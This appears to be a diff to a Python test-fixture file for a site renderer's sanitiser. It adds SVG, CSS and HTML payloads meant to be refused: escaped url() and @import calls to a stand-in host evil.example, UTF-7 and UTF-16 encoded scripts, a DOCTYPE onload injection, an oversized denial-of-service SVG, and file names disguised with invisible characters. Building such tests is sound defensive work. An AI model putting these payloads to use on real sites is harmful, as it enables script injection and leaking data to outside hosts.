@@ -168,6 +168,30 @@ SVG = [  # what stands in an <svg>, refused
     f"<animate attributeName='href' values='javascript:{RUN}'/>",
     f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
     f"<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>{RUN}&lt;/script>'/>",
+    "<rect fill='u&#114;l(https://evil.example/p.svg#a)' width='9' height='9'/>",
+    "<rect fill='u\\72l(https://evil.example/p.svg#a)' width='9' height='9'/>",
+    "<rect style='filter:u\\000072 l(&quot;https://evil.example/f#a&quot;)' width='9' height='9'/>",
+    "<style>svg{background:u\\72l(https://evil.example/b.png)}</style>",
+    "<style>svg{background-image:image-set('https://evil.example/set.png' 1x)}</style>",
+    "<style>svg{background-image:-webkit-image-set(url(https://evil.example/w.png) 1x)}</style>",
+    "<style>@\\69mport 'https://evil.example/i.css';</style>",
+    "<style><![CDATA[@import 'https://evil.example/c.css';]]></style>",
+    "<style>@font-face{font-family:q;src:u\\72l(https://evil.example/f.woff2)}text{font-family:q}"
+    "</style><text y='9'>q</text>",
+    "<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' "
+    "content='0;url=https://evil.example/m'/>",
+    "<h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='https://evil.example/s.png 1x'/>",
+    "<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://evil.example/l'/>",
+    "<h:form xmlns:h='http://www.w3.org/1999/xhtml' action='https://evil.example/'>"
+    "<h:input autofocus='' onfocus='canary()'/></h:form>",
+    "<h:body xmlns:h='http://www.w3.org/1999/xhtml' background='https://evil.example/b.png'/>",
+    "<image href='data:image/svg+xml,&lt;svg xmlns=\"http://www.w3.org/2000/svg\" "
+    "onload=\"canary()\"/>'/>",
+    "<use href='data:image/svg+xml,&lt;svg id=\"a\" xmlns=\"http://www.w3.org/2000/svg\">"
+    "&lt;script>canary()&lt;/script>&lt;/svg>#a'/>",
+    "<feImage href='https://evil.example/fe.png'/>",
+    "<g xml:base='https://evil.example/'><use href='#a'/></g>",
+    "<path d='M0 0'/>" * 300_000 + f"<script>{RUN}</script>",
 ]
 
 SVG_FILES = [
@@ -181,6 +205,12 @@ SVG_FILES = [
     f"<!--{'x' * 9000}--><svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
     f"\ufeff<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode("utf-16"),
     f"<html><script>{RUN}</script></html>",
+    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode("utf-16-le"),
+    f"<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'>"
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-</svg>",
+    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{RUN}'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
+    "<svg width='9' height='9'/>", "<svg xmlns='http://www.w3.org/2000/svg'><text>R&D</text></svg>",
+    b"\x89PNG\r\n\x1a\n<script>canary()</script>",
 ]
 
 HTML = f"<!doctype html><script>{RUN}</script>"
@@ -188,6 +218,10 @@ FILES = [  # other files that a page may lead to
     ("evil.html", HTML), ("evil.HTM", HTML), ("evil.xhtml", HTML), ("evil.xml", HTML),
     ("evil.mht", HTML), ("evil.shtml", HTML), ("evil.js", RUN), ("evil.svgz", b"\x1f\x8b\x08\x00"),
     ("evil", HTML), ("evil.unknown", HTML), ("gif.html", "GIF89a" + HTML),
+    ("evil.html\u00a0", HTML), ("evil.h\u00f8tml", HTML), ("evil.js\u200b", RUN),
+    ("web.config", "<configuration/>"), ("evil.php", "<?php"), ("index.html.fr", HTML),
+    ("evil.png", HTML), ("evil.pdf", HTML), ("evil.SVG ", SVG_FILES[0]), ("evil.ics", HTML),
+    ("robots.txt", "Disallow:"), ("desktop.ini", "x"), ("evil.css", "@import '//evil.example/'"),
 ]
 
 TABLES = {  # the sample's columns, each cell hostile
@@ -249,8 +283,8 @@ def all_cases() -> list[Case]:
         case.files[f"dessin{n:02}.svg"] = one
         cases.append(case)
     for n, (name, content) in enumerate(FILES):
-        case = page(f"fichier{n:02}", f"[x]({n:02}{name})", True)
-        case.files[f"{n:02}{name}"] = content
+        case = page(f"fichier{n:02}", f"[x](<fichiers/{n:02}/{name}>)", True)
+        case.files[f"fichiers/{n:02}/{name}"] = content
         cases.append(case)
     cases += [Case(f"table {name}", {name: text}) for name, text in TABLES.items()]
     cases += [Case(f"nom {n:02}", {f"noms/{name}": f"# Name {n:02}\n\nText.\n"})
